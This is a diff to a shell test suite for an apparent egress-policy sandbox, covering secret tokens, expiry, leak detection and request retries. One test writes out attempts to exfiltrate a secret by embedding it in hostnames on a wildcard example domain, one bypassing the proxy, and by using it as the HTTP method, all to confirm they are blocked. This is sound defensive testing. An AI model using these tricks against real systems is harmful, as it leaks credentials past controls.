@@ -172,6 +172,65 @@ N14_a_server_that_passes_a_secret_on() {
   expect_out_lacks value-of-the-key
 }
 
+# A run that was given a stand-in has that and its time, not the secret's name.
+S10_a_token_is_no_leave_to_name_the_secret() {
+  network process process.yaml allowlist api.example.com
+  sed -i 's/^  resource/    secrets: {injection: host-boundary}\n  resource/' process.yaml
+  printf 'value-of-the-key' >value
+  run secret set KEY --file value --host api.example.com --grant any
+  expect_status 0
+  local text='
+    curl -s -H "X-Key: $KEY" http://api.example.com/in-time
+    sleep 1.5
+    curl -s -H "X-Key: $KEY" http://api.example.com/late
+    curl -s -H "X-Key: {{secret:KEY}}" http://api.example.com/named'
+  net_reset
+  run run --policy process.yaml --token KEY --token-ttl-ms 1200 -- sh -c "$text"
+  expect_out_has "token for secret KEY has expired"
+  expect_out_has "no secret of the name KEY"
+  is "in its time" "$(count_events event=request path=/in-time \
+    header:x-key=value-of-the-key)" 1
+  is "requests in all" "$(count_requests)" 1
+  # Nor has one of a session in which somebody else's token lives.
+  run secret token KEY --scope session:s
+  expect_status 0
+  net_reset
+  run run --policy process.yaml --session s -- sh -c "$text"
+  is "requests with the value" "$(count_events event=request \
+    header:x-key=value-of-the-key)" 0
+  # Asked for by name as well, both are good.
+  run run --policy process.yaml --secret KEY --token KEY -- sh -c "$text"
+  is "by name" "$(count_events event=request path=/named header:x-key=value-of-the-key)" 1
+}
+
+S03_names_and_methods_carry_no_value_out() {
+  network process process.yaml allowlist '*.wild.example.com'
+  sed -i 's/^  resource/    secrets: {injection: environment, leak_detection: {enabled: true}}\n&/' \
+    process.yaml
+  printf 'value-of-the-key' >value
+  run secret set KEY --file value --host api.example.com --grant any
+  printf 'VALUE-LETTERS' >value
+  run secret set LETTERS --file value --host api.example.com --grant any
+  expect_status 0
+  net_reset
+  # What is in a tunnel is not looked at, by leave; but who is called is said outside of it.
+  run run --waive tunnel-scan --policy process.yaml --secret KEY -- sh -c '
+    curl -skm 9 "https://$KEY.wild.example.com/"
+    curl -skm 9 --noproxy "*" "https://x$KEY.wild.example.com/"'
+  is "queries" "$(count_queries)" 0
+  is "connections" "$(count_connections)" 0
+  run audit tail --json -n 1
+  expect_out_has '"code":"leak"'
+  expect_out_lacks value-of-the-key
+  run run --policy process.yaml --secret LETTERS -- sh -c '
+    curl -sm 9 -X "$LETTERS" http://a.wild.example.com/; :'
+  is "methods" "$(count_connections)" 0
+  run run --waive tunnel-scan --policy process.yaml --secret KEY -- \
+    curl -skm 9 https://a.wild.example.com/
+  expect_status 0
+  is "the control's connections" "$(count_connections)" 1
+}
+
 N13_https_never_goes_down_to_http() {
   both allowlist api.example.com
   ask wasm 'https://api.example.com/redirect?to=http://api.example.com/x'
@@ -397,8 +456,23 @@ time.sleep(60)' "$bomb"
   until_true 2 is_gone "$door" || fail "the door stays"
 }
 
+N41_what_a_server_did_not_answer_is_not_sent_again() {
+  both allowlist api.example.com
+  net_reset
+  run run --json --policy wasm.yaml "$GUEST" -n 2 -X POST -d body http://api.example.com/once
+  expect_out_has "Whether it took the request is not known"
+  expect_out_has '"egress_seen":2'
+  is "what was posted" "$(count_events event=request method=POST)" 2
+  # What only reads is, and counts as often as it was sent.
+  net_reset
+  run run --json --policy wasm.yaml "$GUEST" -n 2 http://api.example.com/once
+  expect_status 0
+  expect_out_has '"egress_seen":3'
+  is "what was read" "$(count_requests)" 3
+}
+
 # Whoever is called is told, also when nothing is said to it.
-N38_calls_without_a_word_are_told() {
+N42_calls_without_a_word_are_told() {
   network process process.yaml allowlist api.example.com
   net_reset
   run run --json --policy process.yaml -- python3 -c '
